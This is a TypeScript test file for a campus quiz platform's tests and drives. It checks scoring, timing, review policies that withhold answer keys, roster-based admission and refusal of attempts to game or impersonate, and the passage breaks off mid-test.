// Tests and drives: each rule of the model, and the four ways students could game the old single quiz (answer-key
// oracle, a client-chosen length, taking over another student's attempt, answers dropped from the original client).

import { LIST_CAP } from "@trainwise/contract/common";
import { DEADLINE_GRACE_SECONDS } from "@trainwise/contract/constants";
import type { DriveInput, TestInput } from "@trainwise/contract/drives";
import type { QuizQuestion } from "@trainwise/contract/quiz";
import { describe, expect, it } from "vitest";
import { createTestApp } from "../../test/app.ts";
import {
  adminToken,
  bearer,
  registerStudent,
  seedCategory,
  seedQuestions,
  servedInOrder,
  studentInput,
} from "../../test/fixtures.ts";
import { DRIVE_CODE_GUESSES, driveCodeWaitMs } from "../students/drive-code-guesses.ts";
import { NOT_ADMITTED, REFUSAL_FLOOR_MS } from "../students/registration.ts";

describe("tests and drives", async () => {
  const { app, database } = await createTestApp();
  await seedQuestions(database.db, 30);
  // A second, labelled bank for the category and difficulty mix: 6 easy, 6 medium, 6 hard "Logic" questions.
  await database.pool.query(`
    with made as (
      insert into questions (text, category, difficulty)
      select 'Logic ' || d || ' ' || n || '?', 'Logic', d::difficulty
      from unnest(array['easy', 'medium', 'hard']) d, generate_series(1, 6) n
      returning id, text
    )
    insert into question_options (question_id, text, is_correct, weight, position)
    select made.id, o.text || ' ' || made.text, o.correct, case when o.correct then 100 else 0 end, o.position from made,
      (values ('right', true, 0), ('wrong A', false, 1), ('wrong B', false, 2)) as o(text, correct, position)`);
  const admin = await adminToken(app, database.db);
  const asAdmin = bearer(admin);

  const rightOption = (question: QuizQuestion) =>
    question.options.find((option) => option.text.startsWith("right"))?._id ?? "";
  const wrongOption = (question: QuizQuestion) =>
    question.options.find((option) => option.text.startsWith("wrong"))?._id ?? "";

  async function createTest(input: TestInput) {
    const response = await app.inject({ method: "POST", url: "/api/tests", headers: asAdmin, payload: input });
    expect(response.statusCode, response.body).toBe(201);
    return response.json();
  }
  async function createDrive(input: Omit<DriveInput, "testId"> & { testId: string }) {
    const response = await app.inject({ method: "POST", url: "/api/drives", headers: asAdmin, payload: input });
    expect(response.statusCode, response.body).toBe(201);
    return response.json();
  }
  async function driveWith(test: TestInput, drive: Partial<DriveInput> = {}) {
    const created = await createTest(test);
    return createDrive({
      name: `${test.name} drive`,
      organisation: "Sunrise Engineering College",
      ...drive,
      testId: created._id,
    });
  }
  async function register(overrides: Record<string, string> = {}, remoteAddress = "127.0.0.1") {
    return app.inject({
      method: "POST",
      url: "/api/auth/student/register",
      payload: { ...studentInput(), ...overrides },
      remoteAddress,
    });
  }
  async function startAll(token: string) {
    return app.inject({ method: "GET", url: "/api/quiz/questions?limit=25", headers: bearer(token) });
  }
  async function submit(token: string, answers: { questionId: string; optionId: string }[]) {
    return app.inject({ method: "POST", url: "/api/quiz/submit", headers: bearer(token), payload: { answers } });
  }
  async function result(token: string, id: string) {
    return app.inject({ method: "GET", url: `/api/quiz/result/${id}`, headers: bearer(token) });
  }

  describe("the default drive keeps the original journey", () => {
    it("scores every answer the original client sends in time (questions at once, one submit at the end)", async () => {
      const { token } = await registerStudent(app);
      const served = await startAll(token);
      expect(served.statusCode).toBe(200);
      const questions = served.json() as QuizQuestion[];
      expect(questions).toHaveLength(25);
      // A minute later, as a student reading every question would, still well inside 25 × 30 s.
      await database.pool.query(
        "update attempts set started_at = started_at - interval '60 seconds', current_started_at = current_started_at - interval '60 seconds', deadline_at = deadline_at - interval '60 seconds' where student_id = (select id from students where lower(email) = lower($1))",
        [(await database.pool.query("select email from students order by created_at desc limit 1")).rows[0].email],
      );
      const answers = questions.map((question) => ({ questionId: question._id, optionId: rightOption(question) }));
      const submitted = await submit(token, answers);
      expect(submitted.statusCode).toBe(200);
      expect(submitted.json().refused).toEqual([]);
      const body = (await result(token, submitted.json().resultId)).json();
      expect(body).toMatchObject({ score: 25, totalQuestions: 25, percentage: "100.00", passed: null });
      expect(body.answers).toHaveLength(25);
    });

    it("never lets the client choose a shorter quiz: ?limit=1 still serves the test's 25", async () => {
      const { token } = await registerStudent(app);
      const served = await app.inject({ method: "GET", url: "/api/quiz/questions?limit=1", headers: bearer(token) });
      expect(served.statusCode).toBe(200);
      const questions = served.json() as QuizQuestion[];
      expect(questions).toHaveLength(25);
      const first = questions[0] as QuizQuestion;
      const submitted = await submit(token, [{ questionId: first._id, optionId: rightOption(first) }]);
      expect((await result(token, submitted.json().resultId)).json()).toMatchObject({
        score: 1,
        totalQuestions: 25,
        percentage: "4.00",
      });
    });

    it("runs unpaced for the original call only on the default drive, not on another drive of the default test", async () => {
      const [{ id: defaultTestId }] = (await database.pool.query("select id from tests where is_default")).rows;
      const drive = await createDrive({ name: "Campus drive on the default test", testId: defaultTestId });
      const { token } = (await register({ driveCode: drive.code })).json();
      const served = await startAll(token);
      expect(served.statusCode).toBe(200);
      // The drive keeps the default test's per-question windows: only the question whose window is open.
      expect(served.json()).toHaveLength(1);
      const [attempt] = (
        await database.pool.query(
          "select a.paced from attempts a join students s on s.id = a.student_id where s.drive_id = $1",
          [drive._id],
        )
      ).rows;
      expect(attempt.paced).toBe(true);
    });

    it("names every answer it does not take, and why", async () => {
      const { token } = await registerStudent(app);
      const questions = (await startAll(token)).json() as QuizQuestion[];
      const first = questions[0] as QuizQuestion;
      const second = questions[1] as QuizQuestion;
      const notServed = "00000000-0000-4000-8000-000000000001";
      const submitted = await submit(token, [
        { questionId: first._id, optionId: rightOption(first) },
        { questionId: first._id, optionId: wrongOption(first) },
        { questionId: second._id, optionId: rightOption(first) },
        { questionId: notServed, optionId: rightOption(first) },
      ]);
      expect(submitted.json().refused).toEqual([
        { questionId: first._id, reason: "Another answer to this question came first." },
        { questionId: second._id, reason: "That option does not belong to this question." },
        { questionId: notServed, reason: "That question is not part of your quiz." },
      ]);
      const again = await submit(token, [{ questionId: second._id, optionId: rightOption(second) }]);
      expect(again.json().refused).toEqual([{ questionId: second._id, reason: "The quiz was already submitted." }]);
      expect((await result(token, submitted.json().resultId)).json().score).toBe(1);
    });

    it("lets the admin close the default drive", async () => {
      const drives = (await app.inject({ method: "GET", url: "/api/drives", headers: asAdmin })).json();
      const open = drives.find((drive: { isDefault: boolean }) => drive.isDefault);
      expect(open).toMatchObject({ code: "OPEN", status: "open", testName: "Campus quiz" });
      await app.inject({ method: "POST", url: `/api/drives/${open._id}/close`, headers: asAdmin });
      const refused = await register();
      expect(refused.statusCode).toBe(403);
      expect(refused.json().error).toBe("This test has been closed.");
      const archive = await app.inject({ method: "POST", url: `/api/drives/${open._id}/archive`, headers: asAdmin });
      expect(archive.statusCode).toBe(409);
      await app.inject({ method: "POST", url: `/api/drives/${open._id}/reopen`, headers: asAdmin });
      expect((await register()).statusCode).toBe(200);
    });
  });

  describe("review policy", () => {
    it("shows no ticks after the close while an attempt started before it can still take answers", async () => {
      // A practice test that hides only the ticks (a secure one holds back the score too: key-secrecy.test.ts).
      const drive = await driveWith({
        name: "Late finisher",
        reviewPolicy: "ticks_after_close",
        secure: false,
        questionCount: 5,
      });
      const early = (await register({ driveCode: drive.code })).json();
      await startAll(early.token);
      const { resultId } = (await submit(early.token, [])).json();
      const running = (await register({ driveCode: drive.code })).json();
      const [question] = (await startAll(running.token)).json() as QuizQuestion[];
      await app.inject({ method: "POST", url: `/api/drives/${drive._id}/close`, headers: asAdmin });

      // The running attempt has minutes left: the key would reach it through the early student's result.
      const [{ shown_from: shownFrom }] = (
        await database.pool.query(
          `select a.deadline_at + make_interval(secs => $2) as shown_from from attempts a
           join students s on s.id = a.student_id where s.drive_id = $1 and a.submitted_at is null`,
          [drive._id, DEADLINE_GRACE_SECONDS],
        )
      ).rows;
      const hidden = (await result(early.token, resultId)).json();
      expect(hidden).toMatchObject({ answers: [] });
      expect(hidden.review).toEqual({
        policy: "ticks_after_close",
        ticksShown: false,
        ticksFrom: new Date(shownFrom).toISOString(),
        rightShown: false,
        rightFrom: null,
        timeZone: "Asia/Kolkata",
      });
      const saved = await app.inject({
        method: "PUT",
        url: "/api/quiz/answers",
        headers: bearer(running.token),
        payload: { questionId: question?._id, optionId: rightOption(question as QuizQuestion) },
      });
      expect(saved.statusCode).toBe(200);

      // Once it is submitted, nobody can use the key any more.
      await submit(running.token, []);
      const shown = (await result(early.token, resultId)).json();
      expect(shown.review).toEqual({
        policy: "ticks_after_close",
        ticksShown: true,
        ticksFrom: null,
        rightShown: true,
        rightFrom: null,
        timeZone: "Asia/Kolkata",
      });
      expect(shown.answers).toHaveLength(5);

      // The key is out: the drive never takes new attempts again, by Reopen or by a later closing time.
      const reopened = await app.inject({ method: "POST", url: `/api/drives/${drive._id}/reopen`, headers: asAdmin });
      expect(reopened.statusCode).toBe(409);
      expect(reopened.json().error).toBe(
        "This drive's students have been shown its answers since it closed, so it cannot take new attempts. " +
          "Create a new drive to give the test again.",
      );
      // The same drive, had it closed at its closing time rather than by hand: a later closing time is refused.
      await database.pool.query(
        "update drives set closed_at = null, closes_at = now() - interval '1 minute' where id = $1",
        [drive._id],
      );
      const extended = await app.inject({
        method: "PUT",
        url: `/api/drives/${drive._id}`,
        headers: asAdmin,
        payload: { name: drive.name, testId: drive.testId, closesAt: new Date(Date.now() + 86_400_000).toISOString() },
      });
      expect(extended.statusCode).toBe(409);
      expect((await register({ driveCode: drive.code })).statusCode).toBe(403);
    });

    it("hides per-question ticks until the drive closes under 'ticks after close' (no answer-key oracle)", async () => {
      const drive = await driveWith({
        name: "Oracle-proof",
        reviewPolicy: "ticks_after_close",
        secure: false,
        questionCount: 5,
      });
      const registered = (await register({ driveCode: drive.code })).json();
      const questions = (await startAll(registered.token)).json() as QuizQuestion[];
      expect(questions).toHaveLength(1);
      const first = questions[0] as QuizQuestion;
      await app.inject({
        method: "PUT",
        url: "/api/quiz/answers",
        headers: bearer(registered.token),
        payload: { questionId: first._id, optionId: rightOption(first) },
      });
      const { resultId } = (await submit(registered.token, [])).json();
      const hidden = await result(registered.token, resultId);
      expect(hidden.json()).toMatchObject({
        score: 1,
        totalQuestions: 5,
        answers: [],
        review: { policy: "ticks_after_close", ticksShown: false, ticksFrom: null },
      });
      expect(hidden.body).not.toContain(first.text);
      await app.inject({ method: "POST", url: `/api/drives/${drive._id}/close`, headers: asAdmin });
      const shown = (await result(registered.token, resultId)).json();
      expect(shown.review).toEqual({
        policy: "ticks_after_close",
        ticksShown: true,
        ticksFrom: null,
        rightShown: true,
        rightFrom: null,
        timeZone: "Asia/Kolkata",
      });
      expect(shown.answers).toHaveLength(5);
      expect(shown.answers[0]).toEqual({
        questionId: first._id,
        isCorrect: true,
        answered: true,
        mark: 1,
        question: { text: first.text, html: `<p>${first.text}</p>` },
        // Released: the student's choice and the right option (decision 026), here the same.
        chosen: [first.options.find((option) => option._id === rightOption(first))?.text],
        right: [first.options.find((option) => option._id === rightOption(first))?.text],
      });
    });

    it("shows the score only under 'score only', even after the drive closes", async () => {
      // A secure test (the default for one that hides ticks) draws only keys nobody has seen: questions of its own,
      // since the default drive's attempts above have shown the rest of the bank.
      await seedCategory(database.pool, "Sealed", 3);
      const drive = await driveWith({
        name: "Score only",
        categories: ["Sealed"],
        reviewPolicy: "score_only",
        questionCount: 3,
        timingMode: "whole_quiz",
      });
      const { token } = (await register({ driveCode: drive.code })).json();
      const questions = (await startAll(token)).json() as QuizQuestion[];
      const answers = questions.map((question) => ({ questionId: question._id, optionId: rightOption(question) }));
      const { resultId } = (await submit(token, answers)).json();
      await app.inject({ method: "POST", url: `/api/drives/${drive._id}/close`, headers: asAdmin });
      expect((await result(token, resultId)).json()).toMatchObject({
        score: 3,
        answers: [],
        review: { policy: "score_only", ticksShown: false },
      });
    });
  });

  describe("tests", () => {
    it("draws the test's mix of difficulties from its categories, at random per student", async () => {
      // Secure: each student draws at random among the keys nobody has seen. Its own questions: the default
      // drive's attempts above have shown some of Logic's keys.
      await seedCategory(database.pool, "Mix", 18, ["easy", "medium", "hard"]);
      const drive = await driveWith({
        name: "Logic mix",
        categories: ["Mix"],
        difficultyMix: { easy: 3, medium: 2, hard: 1 },
        timingMode: "whole_quiz",
        secure: true,
      });
      const seen = new Set<string>();
      for (let student = 0; student < 3; student++) {
        const { token } = (await register({ driveCode: drive.code })).json();
        const questions = (await startAll(token)).json() as QuizQuestion[];
        expect(questions).toHaveLength(6);
        const count = (level: string) => questions.filter((question) => question.difficulty === level).length;
        expect([count("easy"), count("medium"), count("hard")]).toEqual([3, 2, 1]);
        for (const question of questions) {
          expect(question.category).toBe("Mix");
          seen.add(question._id);
        }
      }
      expect(seen.size, "different students draw different questions").toBeGreaterThan(6);
    });

    it("keeps unseen questions a secure drive is waiting for out of a practice draw while it has others", async () => {
      await seedCategory(database.pool, "Drill", 12);
      // The secure drive is planned first: its twelve questions are unseen, and it waits for them.
      const secure = await driveWith({
        name: "Drill exam",
        categories: ["Drill"],
        questionCount: 8,
        timingMode: "whole_quiz",
        secure: true,
      });
      const practice = await driveWith({
        name: "Drill",
        categories: ["Drill"],
        questionCount: 4,
        timingMode: "whole_quiz",
      });
      const served = new Set<string>();
      for (let student = 0; student < 5; student++) {
        const { token } = (await register({ driveCode: practice.code })).json();
        for (const question of (await startAll(token)).json() as QuizQuestion[]) served.add(question._id);
      }
      expect(served.size, "after the first, the practice attempts took the four keys already out").toBe(4);
      const { token } = (await register({ driveCode: secure.code })).json();
      const drawn = (await startAll(token)).json() as QuizQuestion[];
      expect(drawn).toHaveLength(8);
      for (const question of drawn) expect(served.has(question._id)).toBe(false);
    });

    it("marks negatively and decides pass or fail by the pass mark", async () => {
      const drive = await driveWith({
        name: "Negative",
        questionCount: 8,
        timingMode: "whole_quiz",
        negativeMark: 0.25,
        passMark: 40,
      });
      const attempt = async (right: number, wrong: number) => {
        const { token } = (await register({ driveCode: drive.code })).json();
        const questions = (await startAll(token)).json() as QuizQuestion[];
        const answers = questions.slice(0, right + wrong).map((question, index) => ({
          questionId: question._id,
          optionId: index < right ? rightOption(question) : wrongOption(question),
        }));
        const { resultId } = (await submit(token, answers)).json();
        return (await result(token, resultId)).json();
      };
      // 4 right, 2 wrong, 2 blank: 4 − 0.5 = 3.5 of 8 = 43.75 % ≥ 40.
      expect(await attempt(4, 2)).toMatchObject({ score: 4, marks: 3.5, percentage: "43.75", passed: true });
      // 3 right, 4 wrong: 3 − 1 = 2 of 8 = 25 % < 40.
      expect(await attempt(3, 4)).toMatchObject({ score: 3, marks: 2, percentage: "25.00", passed: false });
      const listed = (await app.inject({ method: "GET", url: `/api/drives/${drive._id}`, headers: asAdmin })).json();
      expect(listed).toMatchObject({ submitted: 2, passed: 1, failed: 1, students: 2 });
    });

    it("serves per-question tests one question at a time, even to the all-at-once call", async () => {
      const drive = await driveWith({ name: "Paced", questionCount: 4, secondsPerQuestion: 20 });
      const { token } = (await register({ driveCode: drive.code })).json();
      const first = await startAll(token);
      expect(first.json()).toHaveLength(1);
      const state = (await app.inject({ method: "GET", url: "/api/quiz/attempt", headers: bearer(token) })).json();
      expect(state).toMatchObject({
        paced: true,
        timingMode: "per_question",
        totalQuestions: 4,
        secondsPerQuestion: 20,
      });
      const served = await servedInOrder(database.pool, state.attemptId);
      for (const unseen of served.slice(1)) expect(first.body).not.toContain(unseen.text);
      const moved = await app.inject({
        method: "POST",
        url: "/api/quiz/next",
        headers: bearer(token),
        payload: {
          position: 1,
          answer: { questionId: served[0]?._id, optionId: rightOption(served[0] as QuizQuestion) },
        },
      });
      expect(moved.json()).toMatchObject({ currentIndex: 1, secondsLeft: 20, question: served[1] });
      expect((await startAll(token)).json()).toEqual(served.slice(0, 2));
    });

    it("times a whole-quiz test as one window: all questions at once, any order, no Next", async () => {
      const drive = await driveWith({
        name: "Whole",
        questionCount: 5,
        secondsPerQuestion: 60,
        timingMode: "whole_quiz",
      });
      const { token } = (await register({ driveCode: drive.code })).json();
      const started = await app.inject({ method: "POST", url: "/api/quiz/start", headers: bearer(token) });
      const state = started.json();
      expect(state).toMatchObject({ paced: false, timingMode: "whole_quiz", totalQuestions: 5, question: null });
      expect(state.questions).toHaveLength(5);
      expect(state.secondsLeft).toBeGreaterThan(295);
      const last = state.questions[4] as QuizQuestion;
      const saved = await app.inject({
        method: "PUT",
        url: "/api/quiz/answers",
        headers: bearer(token),
        payload: { questionId: last._id, optionId: rightOption(last) },
      });
      expect(saved.statusCode).toBe(200);
      const next = await app.inject({
        method: "POST",
        url: "/api/quiz/next",
        headers: bearer(token),
        payload: { position: 1 },
      });
      expect(next.statusCode).toBe(409);
      expect(next.json().error).toBe(
        "This quiz is timed as a whole: move between its questions freely and submit at the end.",
      );
    });

    it("keeps what an attempt was given when the test is edited; edits apply to new attempts", async () => {
      const test = await createTest({ name: "Editable", questionCount: 4, secondsPerQuestion: 30 });
      const drive = await createDrive({ name: "Editable drive", testId: test._id });
      const before = (await register({ driveCode: drive.code })).json();
      await app.inject({ method: "POST", url: "/api/quiz/start", headers: bearer(before.token) });
      const edited = await app.inject({
        method: "PUT",
        url: `/api/tests/${test._id}`,
        headers: asAdmin,
        payload: { name: "Editable", questionCount: 6, secondsPerQuestion: 45, timingMode: "whole_quiz" },
      });
      expect(edited.statusCode).toBe(200);
      const kept = (
        await app.inject({ method: "GET", url: "/api/quiz/attempt", headers: bearer(before.token) })
      ).json();
      expect(kept).toMatchObject({ totalQuestions: 4, secondsPerQuestion: 30, paced: true });
      const after = (await register({ driveCode: drive.code })).json();
      const fresh = (await app.inject({ method: "POST", url: "/api/quiz/start", headers: bearer(after.token) })).json();
      expect(fresh).toMatchObject({ totalQuestions: 6, secondsPerQuestion: 45, paced: false });
    });

    it("allows as many attempts as the test says, and no more", async () => {
      const drive = await driveWith({
        name: "Two tries",
        questionCount: 2,
        timingMode: "whole_quiz",
        attemptsAllowed: 2,
      });
      const { token } = (await register({ driveCode: drive.code })).json();
      for (let attempt = 1; attempt <= 2; attempt++) {
        expect((await startAll(token)).statusCode).toBe(200);
        expect((await submit(token, [])).statusCode).toBe(200);
      }
      const third = await startAll(token);
      expect(third.statusCode).toBe(409);
      expect(third.json().error).toBe("You have already completed the quiz. Ask an admin if you need another attempt.");
    });

    it("archives a test but never the default one", async () => {
      const test = await createTest({ name: "Retired" });
      const archived = await app.inject({ method: "POST", url: `/api/tests/${test._id}/archive`, headers: asAdmin });
      expect(archived.json()).toEqual({ message: "The test has been archived." });
      const listed = (await app.inject({ method: "GET", url: "/api/tests", headers: asAdmin })).json();
      expect(listed.map((entry: { _id: string }) => entry._id)).not.toContain(test._id);
      const refused = await app.inject({
        method: "POST",
        url: "/api/drives",
        headers: asAdmin,
        payload: { name: "On a retired test", testId: test._id },
      });
      expect(refused.statusCode).toBe(400);
      expect(refused.json().fields).toEqual({ testId: "Choose a current test" });
      const standard = listed.find((entry: { isDefault: boolean }) => entry.isDefault);
      const kept = await app.inject({ method: "POST", url: `/api/tests/${standard._id}/archive`, headers: asAdmin });
      expect(kept.statusCode).toBe(409);
      expect(kept.json().error).toBe("The default test cannot be archived.");
    });

    it("names the answers of a whole-quiz attempt that arrive after its deadline", async () => {
      const drive = await driveWith({
        name: "Too late",
        questionCount: 2,
        secondsPerQuestion: 10,
        timingMode: "whole_quiz",
      });
      const { token } = (await register({ driveCode: drive.code })).json();
      const questions = (await startAll(token)).json() as QuizQuestion[];
      const state = (await app.inject({ method: "GET", url: "/api/quiz/attempt", headers: bearer(token) })).json();
      // 20 s of quiz and 10 s of grace have passed.
      await database.pool.query(
        "update attempts set started_at = started_at - interval '31 seconds', current_started_at = current_started_at - interval '31 seconds', deadline_at = deadline_at - interval '31 seconds' where id = $1",
        [state.attemptId],
      );
      const first = questions[0] as QuizQuestion;
      const late = await submit(token, [{ questionId: first._id, optionId: rightOption(first) }]);
      expect(late.json().refused).toEqual([
        { questionId: first._id, reason: "Time was up: the quiz had already been submitted." },
      ]);
      expect((await result(token, late.json().resultId)).json().score).toBe(0);
    });

    it("validates a test's settings with messages a person understands", async () => {
      const cases: [Record<string, unknown>, string, string][] = [
        [{ name: "" }, "name", "Name is required"],
        [{ name: "x", questionCount: 0 }, "questionCount", "Number of questions must be at least 1"],
        [{ name: "x", questionCount: 2 ** 31 }, "questionCount", "Number of questions must be at most 200"],
        [{ name: "x", passMark: 101 }, "passMark", "Pass mark must be at most 100"],
        [{ name: "x", negativeMark: 2 }, "negativeMark", "Negative marking must be at most 1 mark per wrong answer"],
        [
          { name: "x", difficultyMix: { easy: 0, medium: 0, hard: 0 } },
          "difficultyMix",
          "The difficulty mix must add up to between 1 and 200 questions",
        ],
        [
          { name: "x", timingMode: "sometimes" },
          "timingMode",
          "Timing must be per question, whole quiz or each section on its own",
        ],
      ];
      for (const [payload, field, message] of cases) {
        const response = await app.inject({ method: "POST", url: "/api/tests", headers: asAdmin, payload });
        expect(response.statusCode, JSON.stringify(payload)).toBe(400);
        expect(response.json().fields).toMatchObject({ [field]: message });
      }
    });
  });

  describe("drives", () => {
    it("says when a drive opens, and that it has closed, in the drive's time zone", async () => {
      const test = await createTest({ name: "Windowed", questionCount: 3 });
      const early = await createDrive({
        name: "Sunrise",
        testId: test._id,
        opensAt: "2099-12-03T04:30:00.000Z",
        closesAt: "2099-12-03T06:30:00.000Z",
        timeZone: "Asia/Kolkata",
      });
      const tooEarly = await register({ driveCode: early.code.toLowerCase() });
      expect(tooEarly.statusCode).toBe(403);
      expect(tooEarly.json().error).toBe("This test opens at 10:00 on 3 December (India Standard Time).");
      const late = await createDrive({
        name: "Yesterday",
        testId: test._id,
        opensAt: "2020-01-01T04:30:00.000Z",
        closesAt: "2020-01-01T06:30:00.000Z",
        timeZone: "Asia/Kolkata",
      });
      const tooLate = await register({ driveCode: late.code });
      expect(tooLate.statusCode).toBe(403);
      expect(tooLate.json().error).toBe("This test closed at 12:00 on 1 January (India Standard Time).");
      // Reopening what an admin closed does not reopen a drive whose own time has passed, and says so.
      await app.inject({ method: "POST", url: `/api/drives/${late._id}/close`, headers: asAdmin });
      const reopened = await app.inject({ method: "POST", url: `/api/drives/${late._id}/reopen`, headers: asAdmin });
      expect(reopened.json().message).toBe(
        "The drive stays closed: its closing time, 12:00 on 1 January (India Standard Time), has passed.",
      );
      const scheduled = await app.inject({
        method: "POST",
        url: `/api/drives/${early._id}/reopen`,
        headers: asAdmin,
      });
      expect(scheduled.json().message).toBe(
        "The drive is no longer closed by hand; it opens at 10:00 on 3 December (India Standard Time).",
      );
      expect(
        (await app.inject({ method: "GET", url: `/api/drives/${early._id}`, headers: asAdmin })).json().status,
      ).toBe("scheduled");
    });

    it("counts the attempts running now, which closing would interrupt", async () => {
      const drive = await driveWith({ name: "Sitting", questionCount: 3, timingMode: "whole_quiz" });
      const sitting = async () =>
        (await app.inject({ method: "GET", url: `/api/drives/${drive._id}`, headers: asAdmin })).json().sitting;
      expect(await sitting()).toBe(0);
      const { token } = (await register({ driveCode: drive.code })).json();
      await startAll(token);
      expect(await sitting()).toBe(1);
      await submit(token, []);
      expect(await sitting()).toBe(0);
    });

    it("refuses a student who registered in time once the drive has closed", async () => {
      const drive = await driveWith({ name: "Closing", questionCount: 3 });
      const { token } = (await register({ driveCode: drive.code })).json();
      await app.inject({ method: "POST", url: `/api/drives/${drive._id}/close`, headers: asAdmin });
      const start = await app.inject({ method: "POST", url: "/api/quiz/start", headers: bearer(token) });
      expect(start.statusCode).toBe(403);
      expect(start.json().error).toBe("This test has been closed.");
    });

    it("answers an unknown drive code as a roster that does not list the student, under its field", async () => {
      const response = await register({ driveCode: "NOPE42" });
      expect(response.statusCode).toBe(403);
      expect(response.json().fields).toEqual({ driveCode: NOT_ADMITTED });
      const malformed = await register({ driveCode: "no!" });
      expect(malformed.statusCode).toBe(400);
      expect(malformed.json().fields).toEqual({ driveCode: "A drive code is 4 to 12 letters and digits" });
    });

    it("takes only the students on a roster, by email or by USN", async () => {
      const drive = await driveWith({ name: "Rostered", questionCount: 3 }, { rosterOnly: true });
      const roster = await app.inject({
        method: "PUT",
        url: `/api/drives/${drive._id}/roster`,
        headers: { ...asAdmin, "content-type": "text/csv" },
        payload: "email,usn\nlisted@example.com,\n,1SR24CS001\n",
      });
      expect(roster.json()).toEqual({ entries: 2, message: "The roster now lists 2 students." });
      const outsider = await register({ driveCode: drive.code, email: "outsider@example.com" });
      // Answered as a code that names no drive: the outsider does not learn that this one is a drive.
      expect(outsider.statusCode).toBe(403);
      expect(outsider.json()).toEqual((await register({ driveCode: "NOPE43" })).json());
      expect(outsider.json().error).toBe(NOT_ADMITTED);
      expect((await register({ driveCode: drive.code, email: "LISTED@example.com" })).statusCode).toBe(200);
      expect((await register({ driveCode: drive.code, usnNo: "1sr24cs001" })).statusCode).toBe(200);
    });

    // Lines as [email, USN]; each shape stored exactly as uploaded, and its personal links kept when it comes again.
    const rosterShapes: [string, [string, string][]][] = [
      ["one line, USN only", [["", "1SR24CS009"]]],
      [
        "an email on one line of three",
        [
          ["", "1SR24CS010"],
          ["middle@example.com", ""],
          ["", "1SR24CS011"],
        ],
      ],
      [
        "900 lines, an email on every third",
        Array.from({ length: 900 }, (_, line) => [
          line % 3 === 0 ? `line${line}@example.com` : "",
          `1SR24CS${String(line).padStart(4, "0")}`,
        ]),
      ],
    ];
    it.each(rosterShapes)(
      "stores a roster (%s) as uploaded, and keeps its links when it comes again",
      async (_shape, lines) => {
        const drive = await driveWith({ name: "Shaped", questionCount: 3 }, { rosterOnly: true });
        const upload = () =>
          app.inject({
            method: "PUT",
            url: `/api/drives/${drive._id}/roster`,
            headers: { ...asAdmin, "content-type": "text/csv" },
            payload: `email,usn\n${lines.map((line) => line.join(",")).join("\n")}\n`,
          });
        expect((await upload()).json().entries).toBe(lines.length);
        const made = await app.inject({
          method: "POST",
          url: `/api/drives/${drive._id}/roster/links`,
          headers: asAdmin,
          payload: { lines: "all" },
        });
        expect(made.json().made).toBe(lines.length);
        expect((await upload()).json().entries).toBe(lines.length);
        const stored = await app.inject({ method: "GET", url: `/api/drives/${drive._id}/roster`, headers: asAdmin });
        const read = (stored.json() as { email: string | null; usnNo: string | null; link: unknown }[]).map((line) => [
          line.email ?? "",
          line.usnNo ?? "",
          line.link !== null,
        ]);
        const expected = lines.map(([email, usn]) => [email, usn, true]);
        const order = (a: (string | boolean)[], b: (string | boolean)[]) => String(a).localeCompare(String(b));
        expect(read.sort(order)).toEqual(expected.sort(order));
      },
    );

    it("ends two uploads of a roster sent at once with one of them, not both", async () => {
      const drive = await driveWith({ name: "Twice at once", questionCount: 3 }, { rosterOnly: true });
      const roster = (prefix: string) =>
        `email,usn\n${Array.from({ length: 300 }, (_, line) => `${prefix}${line}@example.com,`).join("\n")}\n`;
      const upload = (prefix: string) =>
        app.inject({
          method: "PUT",
          url: `/api/drives/${drive._id}/roster`,
          headers: { ...asAdmin, "content-type": "text/csv" },
          payload: roster(prefix),
        });
      const answers = await Promise.all([upload("first"), upload("second")]);
      expect(answers.map((answer) => answer.statusCode)).toEqual([200, 200]);
      const stored = await app.inject({ method: "GET", url: `/api/drives/${drive._id}/roster`, headers: asAdmin });
      const prefixes = new Set(
        (stored.json() as { email: string }[]).map((line) => line.email.replace(/\d+@example\.com$/, "")),
      );
      expect(stored.json()).toHaveLength(300);
      expect(prefixes.size).toBe(1);
    });

    it("admits by a roster line that gives both an email and a USN only the student with both", async () => {
      const drive = await driveWith({ name: "Both listed", questionCount: 3 }, { rosterOnly: true });
      await app.inject({
        method: "PUT",
        url: `/api/drives/${drive._id}/roster`,
        headers: { ...asAdmin, "content-type": "text/csv" },
        payload: "email,usn\nmeera@example.com,1SR24CS101\n",
      });
      // Someone who knows one of the two (a classmate's USN, or the e-mail address) is not the listed student.
      const byEmail = await register({ driveCode: drive.code, email: "meera@example.com", usnNo: "1SR24CS999" });
      expect(byEmail.statusCode).toBe(403);
      const byUsn = await register({ driveCode: drive.code, email: "impostor@example.com", usnNo: "1SR24CS101" });
      expect(byUsn.statusCode).toBe(403);
      const listed = await register({ driveCode: drive.code, email: "Meera@Example.com", usnNo: "1sr24cs101" });
      expect(listed.statusCode).toBe(200);
    });

    it("admits nobody by one roster line with an identifier another line gives to someone else", async () => {
      const drive = await driveWith({ name: "Mixed roster", questionCount: 3 }, { rosterOnly: true });
      await app.inject({
        method: "PUT",
        url: `/api/drives/${drive._id}/roster`,
        headers: { ...asAdmin, "content-type": "text/csv" },
        payload:
          "email,usn\nasha@college.edu,1SR24CS201\nbala@college.edu,\n,1SR24CS202\nchitra@college.edu,1SR24CS203\n",
      });
      // Bala's line gives only an email; Asha's USN is on Asha's line, so Bala cannot take it.
      const balaAsAsha = await register({ driveCode: drive.code, email: "bala@college.edu", usnNo: "1SR24CS201" });
      expect(balaAsAsha.statusCode).toBe(403);
      const usnLineAsChitra = await register({
        driveCode: drive.code,
        email: "chitra@college.edu",
        usnNo: "1SR24CS202",
      });
      expect(usnLineAsChitra.statusCode).toBe(403);
      for (const [email, usnNo] of [
        ["asha@college.edu", "1SR24CS201"],
        ["bala@college.edu", "1SR24CS299"],
        ["someone@college.edu", "1SR24CS202"],
        ["chitra@college.edu", "1SR24CS203"],
      ] as const) {
        expect((await register({ driveCode: drive.code, email, usnNo })).statusCode, email).toBe(200);
      }
      const bad = await app.inject({
        method: "PUT",
        url: `/api/drives/${drive._id}/roster`,
        headers: { ...asAdmin, "content-type": "text/csv" },
        payload: "name\nAna\n",
      });
      expect(bad.statusCode).toBe(400);
    });

    it("lists its roster for admins, each line with the student who registered by it", async () => {
      const drive = await driveWith({ name: "Roster list", questionCount: 3 }, { rosterOnly: true });
      await app.inject({
        method: "PUT",
        url: `/api/drives/${drive._id}/roster`,
        headers: { ...asAdmin, "content-type": "text/csv" },
        payload: "email,usn\nzoya@example.com,\n,1SR24CS077\nAnil@Example.com,1SR24CS078\n",
      });
